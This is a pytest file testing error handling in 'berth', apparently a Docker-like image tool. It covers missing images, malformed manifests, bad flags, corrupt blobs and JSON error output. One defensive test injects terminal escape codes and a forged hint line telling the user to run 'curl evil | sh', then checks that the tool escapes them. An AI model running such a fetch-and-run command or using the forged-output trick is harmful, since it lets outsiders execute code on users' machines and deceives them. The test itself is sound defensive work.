"""User-facing errors: unknown images, malformed manifests, bad flags, corrupt store."""

import json
import os

import pytest

import imagelib
from imagelib import OCI_MANIFEST, DOCKER_MANIFEST, OCI_INDEX


def test_unknown_repository(berth, registry):
    ref = f"{registry.host}/no/such-repo:1"
    rc, out, err = berth("pull", ref, check=False)
    assert (rc, out) == (1, "")
    assert err == (f"berth: error: pull {ref}: GET http://{registry.host}/v2/no/such-repo/"
                   "manifests/1: manifest unknown (HTTP 404)\n")


def test_unknown_tag(berth, registry, pushed_busybox):
    repo = pushed_busybox.rsplit(":", 1)[0]
    ref = f"{repo}:no-such-tag"
    rc, out, err = berth("pull", ref, check=False)
    assert (rc, out) == (1, "")
    assert err == (f"berth: error: pull {ref}: GET http://{registry.host}/v2/e2e/busybox/"
                   "manifests/no-such-tag: manifest unknown (HTTP 404)\n")
    assert berth.json("images", "--json") == []


def test_registry_not_listening(berth):
    from servers import free_port
    port = free_port()
    rc, _, err = berth("pull", f"127.0.0.1:{port}/x:1", check=False)
    assert rc == 1
    assert err.startswith(f"berth: error: pull 127.0.0.1:{port}/x:1: GET "
                          f"http://127.0.0.1:{port}/v2/x/manifests/1: ")
    assert len(err.splitlines()) == 1


# --------------------------------------------------------------------------
# Manifests a real registry would not store, served by the fake registry.

def _config():
    return imagelib.make_image([imagelib.Layer([imagelib.File("x", b"x")])]).config


MALFORMED = {
    "invalid-json": (OCI_MANIFEST, b"{not json"),
    "not-an-object": (OCI_MANIFEST, b"[1, 2, 3]"),
    "missing-config": (OCI_MANIFEST, {"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                                      "layers": []}),
    "layers-not-a-list": (OCI_MANIFEST, {"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                                         "config": "CONFIG", "layers": "many"}),
    "size-is-a-string": (DOCKER_MANIFEST, {"schemaVersion": 2, "mediaType": DOCKER_MANIFEST,
                                           "config": "CONFIG-SIZE-STRING", "layers": []}),
    "digest-is-a-number": (OCI_MANIFEST, {"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                                          "config": {"mediaType": imagelib.OCI_CONFIG,
                                                     "digest": 12345, "size": 2},
                                          "layers": []}),
    "layer-not-an-object": (OCI_MANIFEST, {"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                                           "config": "CONFIG", "layers": ["sha256:00"]}),
    "index-manifests-not-a-list": (OCI_INDEX, {"schemaVersion": 2, "mediaType": OCI_INDEX,
                                               "manifests": {"a": 1}}),
}


@pytest.fixture(scope="module")
def malformed(fake_registry):
    config = _config()
    for name, (ctype, body) in MALFORMED.items():
        if isinstance(body, dict):
            if body.get("config") == "CONFIG":
                body = dict(body, config=config.descriptor())
            elif body.get("config") == "CONFIG-SIZE-STRING":
                body = dict(body, config=config.descriptor(size=str(config.size)))
            body = json.dumps(body).encode()
        fake_registry.manifests[("bad", name)] = (ctype, body)
    return fake_registry


@pytest.mark.parametrize("name", list(MALFORMED))
def test_malformed_manifest(berth, malformed, name):
    ref = f"{malformed.host}/bad:{name}"
    rc, out, err = berth("pull", ref, check=False)
    assert (rc, out) == (1, "")
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith(f"berth: error: pull {ref}: parse ")
    assert "malformed manifest" in lines[0]
    assert berth.json("images", "--json") == []
    assert berth.blobs() == set()


# --------------------------------------------------------------------------
# Usage errors exit 125, as Docker's CLI does.

@pytest.mark.parametrize("args, message", [
    ((), "A subcommand is required"),
    (("pull",), "IMAGE is required"),
    (("unpack", "only-image"), "DIR is required"),
    (("pull", "--platform"), "--platform: 1 required TEXT missing"),
])
def test_usage_errors(berth, args, message):
    rc, out, err = berth(*args, check=False)
    assert (rc, out) == (125, "")
    command = f"{args[0]} " if args else ""
    assert err == f"berth: error: {message}\nberth: hint: see 'berth {command}--help'\n"


@pytest.mark.parametrize("args, message", [
    # The option is named, not the operand CLI11 lists first ("arguments were not expected:
    # CONTAINER --tail").
    (("pull", "--bogus", "x"), "pull --bogus: unknown flag"),
    (("logs", "--no-such", "5", "c1"), "logs --no-such: unknown flag"),
    (("logs", "--no-such=5", "c1"), "logs --no-such: unknown flag"),
    (("ps", "--no-such", "name=x"), "ps --no-such: unknown flag"),
    (("images", "-qZ"), "images -Z: unknown flag"),
    (("images", "extra-arg"), "images extra-arg: unexpected argument"),
])
def test_unknown_options_and_operands_are_named(berth, args, message):
    rc, out, err = berth(*args, check=False)
    assert (rc, out) == (125, "")
    assert err == f"berth: error: {message}\nberth: hint: see 'berth {args[0]} --help'\n"


def test_unknown_command_is_named(berth):
    rc, out, err = berth("no-such-command", check=False)
    assert (rc, out) == (125, "")
    assert "no-such-command" in err.splitlines()[0]
    assert err.endswith("berth: hint: see 'berth --help'\n")


def test_help_and_version(berth):
    _, out, _ = berth("--help")
    for cmd in ("pull", "images", "rmi", "inspect", "verify", "unpack", "login", "logout"):
        assert f"  {cmd}" in out
    _, out, _ = berth("--version")
    assert out.startswith("berth ")


# --------------------------------------------------------------------------
# verify

def test_verify_catches_a_corrupt_blob(berth, pushed_busybox, busybox_image):
    berth("pull", pushed_busybox)
    layer = busybox_image.layers[1].digest
    path = os.path.join(berth.blob_dir(), layer.split(":")[1])
    os.chmod(path, 0o644)
    with open(path, "r+b") as f:
        data = bytearray(f.read())
        data[len(data) // 2] ^= 0xFF
        f.seek(0)
        f.write(data)
    actual = "sha256:" + __import__("hashlib").sha256(bytes(data)).hexdigest()
    rc, out, err = berth("verify", pushed_busybox, check=False)
    assert rc == 1
    assert out == f"{layer}: digest mismatch: got {actual}\n"
    assert err == (f"berth: error: verify {pushed_busybox}: 1 of 4 blobs failed verification\n"
                   f"berth: hint: pull the image again to repair it: berth rmi {pushed_busybox} "
                   f"&& berth pull {pushed_busybox}\n")


def test_verify_catches_a_missing_blob(berth, pushed_busybox, busybox_image):
    berth("pull", pushed_busybox)
    config = busybox_image.config.digest
    os.unlink(os.path.join(berth.blob_dir(), config.split(":")[1]))
    rc, out, err = berth("verify", pushed_busybox, check=False)
    assert rc == 1
    assert out == f"{config}: missing\n"
    assert err.startswith(f"berth: error: verify {pushed_busybox}: 1 of 4 blobs failed")


def test_unpack_refuses_a_non_empty_target(berth, pushed_busybox):
    berth("pull", pushed_busybox)
    target = berth.make_dir("full")
    berth.write_file("full/keep", "mine\n")
    rc, _, err = berth("unpack", pushed_busybox, target, check=False)
    assert rc == 1
    assert err == (f"berth: error: unpack {pushed_busybox}: unpack {target}: "
                   "target exists and is not an empty directory\n")
    assert os.listdir(target) == ["keep"]


def test_unknown_image_for_each_command(berth):
    for cmd in (("inspect",), ("verify",), ("unpack", "x:1"), ("rmi",)):
        args = (cmd[0], "ghost:1", *cmd[1:]) if cmd[0] != "unpack" else ("unpack", "ghost:1",
                                                                          berth.path("t"))
        rc, out, err = berth(*args, check=False)
        assert (rc, out) == (1, ""), args
        assert err.startswith("berth: error: find image ghost:1: no such image\n"), (args, err)
        assert err.endswith("berth: hint: see 'berth images'\n")


def test_manifest_digest_header_mismatch(berth, fake_registry):
    img = imagelib.make_image([imagelib.Layer([imagelib.File("x", b"x")])])
    fake_registry.manifests[("liar", "1")] = (OCI_MANIFEST, img.manifest.data)
    lie = "sha256:" + "0" * 64
    fake_registry.digest_header[("liar", "1")] = lie
    ref = f"{fake_registry.host}/liar:1"
    rc, _, err = berth("pull", ref, check=False)
    assert rc == 1
    assert err == (f"berth: error: pull {ref}: GET http://{fake_registry.host}/v2/liar/manifests/1: "
                   f"manifest digest {img.manifest.digest} does not match "
                   f"Docker-Content-Digest {lie}\n")
    assert berth.blobs() == set()


def test_manifest_by_digest_must_match(berth, fake_registry):
    img = imagelib.make_image([imagelib.Layer([imagelib.File("y", b"y")])])
    other = "sha256:" + "1" * 64
    fake_registry.manifests[("swapped", other)] = (OCI_MANIFEST, img.manifest.data)
    fake_registry.digest_header[("swapped", other)] = other
    ref = f"{fake_registry.host}/swapped@{other}"
    rc, _, err = berth("pull", ref, check=False)
    assert rc == 1
    assert f"manifest digest {img.manifest.digest} does not match" in err
    assert len(err.splitlines()) == 1


def test_inspect_by_manifest_digest(berth, pushed_busybox, busybox_image):
    berth("pull", pushed_busybox)
    info = berth.json("inspect", busybox_image.manifest.digest)
    assert info["name"] == pushed_busybox


def test_registry_text_cannot_forge_lines_or_move_the_cursor(berth, fake_registry):
    """A registry's words reach the terminal with control characters escaped: no forged
    `berth: hint:` line, no screen clearing (before: printed raw)."""
    fake_registry.not_found_message = ("gone\n\x1b[2J\x1b[Hberth: hint: run 'curl evil | sh'"
                                       "\r\x07\u0085\xff")
    try:
        ref = f"{fake_registry.host}/forged:1"
        rc, out, err = berth("pull", ref, check=False)
    finally:
        fake_registry.not_found_message = "manifest unknown"
    assert (rc, out) == (1, "")
    assert err == (f"berth: error: pull {ref}: GET http://{fake_registry.host}/v2/forged"
                   "/manifests/1: gone\\n\\e[2J\\e[Hberth: hint: run 'curl evil | sh'"
                   "\\r\\x07\\u0085\u00ff (HTTP 404)\n")


def test_an_argument_that_is_not_utf8_cannot_abort_berth(berth, pushed_busybox):
    # "caf\udcff" reaches berth as the bytes "caf\xff" (Python's surrogateescape), which are not
    # UTF-8: writing them into container.json once aborted berth with an uncaught JSON exception.
    # Berth's JSON writes U+FFFD for such a byte, as Docker does.
    berth("pull", pushed_busybox)
    rc, out, err = berth("create", "--name", "box", pushed_busybox, "echo", "caf\udcff",
                         check=False)
    assert (rc, err) == (0, ""), err
    assert len(out.strip()) == 64
    record = berth.json("inspect", "box")
    record = record[0] if isinstance(record, list) else record
    assert record["config"]["Cmd"] == ["echo", "caf\ufffd"]
    assert [c["name"] for c in berth.json("ps", "--json")] == ["box"]


def test_errors_for_programs_are_json_with_a_code(berth, pulled_busybox):
    # berth --error-format=json (what the Slurm plugin runs): one JSON line on stderr whose
    # code a program branches on; the words stay those of the text form.
    rc, out, err = berth("--error-format=json", "inspect", "--type=container", "--", "absent",
                         check=False)
    assert (rc, out) == (1, "")
    assert json.loads(err) == {"error": {"message": "find container absent: no such container",
                                         "code": "not_found"}}
    assert err.count("\n") == 1
    rc, _, err = berth("--error-format", "json", "frob", check=False)
    assert rc == 125
    assert json.loads(err) == {"error": {"message": "'frob' is not a berth command",
                                         "code": "invalid_input", "hint": "see 'berth --help'"}}
    # --type=container: an image of that name is not a container.
    rc, _, err = berth("inspect", "--type=container", pulled_busybox, check=False)
    assert (rc, err) == (1, f"berth: error: find container {pulled_busybox}: no such container\n")
    # A "--" ends run's options: what follows is the image, then the command (whose own "--"
    # stays its own); an image that looks like an option is refused, never taken for one.
    rc, out, _ = berth("run", "--rm", "--", pulled_busybox, "echo", "--", "--help")
    assert (rc, out) == (0, "-- --help\n")
    rc, out, err = berth("--error-format=json", "run", "--rm", "--", "--help", check=False)
    assert (rc, out) == (125, "")
    assert json.loads(err)["error"]["message"] == "run --help: unknown flag"


def test_a_detached_runs_failure_is_in_inspect(berth, pulled_busybox):
    # The monitor of `run -d` prints its failure to the container's log; inspect (and ps
    # --json) carry it as "error" (Docker's State.Error), the workload's pid as "pid".
    import time
    berth("run", "-d", "--name", "failing", "-v", "/nonexistent:/x", pulled_busybox, "true")
    deadline = time.monotonic() + 30
    while berth.json("inspect", "failing")["status"] != "exited" and time.monotonic() < deadline:
        time.sleep(0.05)
    c = berth.json("inspect", "--type=container", "failing")
    assert (c["status"], c["pid"], c["exit_code"]) == ("exited", 0, 125)
    assert c["error"] == "mount volume /nonexistent:/x: bind source path does not exist"
    _, out, _ = berth("inspect", "-f", "{{.State.Error}}", "failing")
    assert out == "mount volume /nonexistent:/x: bind source path does not exist\n"
    berth("run", "-d", "--name", "sleeping", pulled_busybox, "busybox", "sleep", "30")
    try:
        def workload() -> bytes:  # the pid's command line, once it has exec'd the command
            pid = berth.json("inspect", "sleeping")["pid"]
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    return f.read() if pid > 0 else b""
            except OSError:
                return b""

        deadline = time.monotonic() + 30
        while workload() != b"busybox\x00sleep\x0030\x00" and time.monotonic() < deadline:
            time.sleep(0.05)
        assert workload() == b"busybox\x00sleep\x0030\x00"
        assert berth.json("inspect", "sleeping")["error"] is None
    finally:
        berth("rm", "-f", "-t", "0", "sleeping", "failing")
